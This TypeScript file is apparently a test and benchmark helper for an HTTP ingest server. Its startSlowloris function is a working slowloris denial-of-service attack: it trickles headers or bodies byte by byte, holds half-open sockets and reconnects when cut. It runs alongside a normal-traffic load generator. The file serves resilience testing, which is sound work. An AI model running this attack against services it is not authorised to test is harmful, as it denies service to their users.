// A slowloris attack and normal ingest traffic, for test/faults/slowloris.test.ts and
// bench/slowloris.bench.ts. The attack opens raw connections that trickle either their headers
// or their body (valid ingest headers and token, a large Content-Length) a byte at a time, keep
// their side open when the server ends its own (allowHalfOpen), and reconnect whenever the
// server cuts them, until stopped. Normal traffic: `concurrency` loops posting a small body each,
// back to back, recording every status and latency.
import { connect } from 'node:net'
import type { Socket } from 'node:net'
import { Agent, request } from 'undici'

export interface IngestEndpoint {
  /** http://host:port */
  url: string
  stream: string
  token: string
}

export interface SlowlorisOptions {
  target: IngestEndpoint
  /** Connections trickling their body. */
  bodyClients: number
  /** Connections trickling their headers. */
  headerClients: number
  /** ms between two bytes of a trickle. */
  byteIntervalMs: number
}

export interface SlowlorisStats {
  /** Connections opened in all (reconnects included). */
  opened: number
  /** Answers the server sent them, by status. */
  answers: Map<number, number>
  /** Connections the server closed (it sent its FIN, or destroyed them). */
  closedByServer: number
}

export interface Slowloris {
  stats: SlowlorisStats
  /** Stops reconnecting and closes every attack connection. */
  stop (): Promise<SlowlorisStats>
}

export function startSlowloris (options: SlowlorisOptions): Slowloris {
  const { target } = options
  const { hostname, port } = new URL(target.url)
  const stats: SlowlorisStats = { opened: 0, answers: new Map(), closedByServer: 0 }
  const sockets = new Set<Socket>()
  let stopped = false
  const headers = `POST /api/ingest/${target.stream} HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: Bearer ${target.token}\r\n` +
    'Content-Type: application/x-ndjson\r\nContent-Length: 1000000\r\n\r\n'
  const line = '{"path":"/slowloris"}\n'

  function open (kind: 'body' | 'headers'): void {
    if (stopped) return
    stats.opened++
    const socket = connect({ host: hostname, port: Number(port), allowHalfOpen: true })
    sockets.add(socket)
    let sent = 0
    let answer = ''
    const trickle = (): void => {
      if (socket.destroyed || !socket.writable) return
      if (kind === 'headers') socket.write(headers.charAt(sent++ % (headers.length - 4)))
      else socket.write(line.charAt(sent++ % line.length))
    }
    socket.on('connect', () => {
      if (kind === 'body') socket.write(headers)
      timer = setInterval(trickle, options.byteIntervalMs)
    })
    let timer: NodeJS.Timeout | undefined
    socket.on('data', (d) => {
      answer += d
      const status = /^HTTP\/1\.1 (\d{3}) /.exec(answer)
      if (status && !answer.includes('\u0000')) {
        stats.answers.set(Number(status[1]), (stats.answers.get(Number(status[1])) ?? 0) + 1)
        answer = '\u0000' // counted once
      }
    })
    socket.on('error', () => {})
    // The server's FIN or reset: a real attacker would hold a half-open socket, so this one stays
    // open (the server must let go without its help), and a fresh connection takes its place.
    let replaced = false
    const replace = (): void => {
      clearInterval(timer)
      if (replaced) return
      replaced = true
      if (!stopped) stats.closedByServer++
      setImmediate(() => open(kind))
    }
    socket.on('end', replace)
    socket.on('close', () => {
      sockets.delete(socket)
      replace()
    })
  }

  for (let i = 0; i < options.bodyClients; i++) open('body')
  for (let i = 0; i < options.headerClients; i++) open('headers')

  return {
    stats,
    async stop () {
      stopped = true
      const closing = [...sockets].map((s) => new Promise<void>((resolve) => { s.once('close', () => resolve()); s.destroy() }))
      await Promise.all(closing)
      return stats
    },
  }
}

export interface NormalTrafficResult {
  statuses: Map<number, number>
  /** Error codes of non-200 answers, by code. */
  errors: Map<string, number>
  latenciesMs: number[]
}

/**
 * `concurrency` loops posting `body` for `durationMs`, or until `untilOk` answers were 200 if that
 * comes first; its own connection pool, closed at the end.
 */
export async function runNormalTraffic (target: IngestEndpoint,
  options: { concurrency: number, durationMs: number, body: string, untilOk?: number }): Promise<NormalTrafficResult> {
  const agent = new Agent({ connections: options.concurrency })
  const result: NormalTrafficResult = { statuses: new Map(), errors: new Map(), latenciesMs: [] }
  const until = performance.now() + options.durationMs
  const done = (): boolean => performance.now() >= until || (result.statuses.get(200) ?? 0) >= (options.untilOk ?? Infinity)
  async function loop (): Promise<void> {
    while (!done()) {
      const started = performance.now()
      const res = await request(`${target.url}/api/ingest/${target.stream}`, {
        method: 'POST', body: options.body, dispatcher: agent,
        headers: { authorization: `Bearer ${target.token}`, 'content-type': 'application/x-ndjson' },
      })
      const text = await res.body.text()
      result.latenciesMs.push(performance.now() - started)
      result.statuses.set(res.statusCode, (result.statuses.get(res.statusCode) ?? 0) + 1)
      if (res.statusCode !== 200) {
        const code = String((JSON.parse(text) as { error?: string }).error)
        result.errors.set(code, (result.errors.get(code) ?? 0) + 1)
      }
    }
  }
  await Promise.all(Array.from({ length: options.concurrency }, loop))
  await agent.close()
  return result
}

/** The p-quantile (0..1) of some values, nearest rank. */
export function quantileOf (values: readonly number[], p: number): number {
  if (values.length === 0) return Number.NaN
  const sorted = [...values].sort((a, b) => a - b)
  return sorted[Math.min(sorted.length - 1, Math.max(0, Math.ceil(p * sorted.length) - 1))]
}
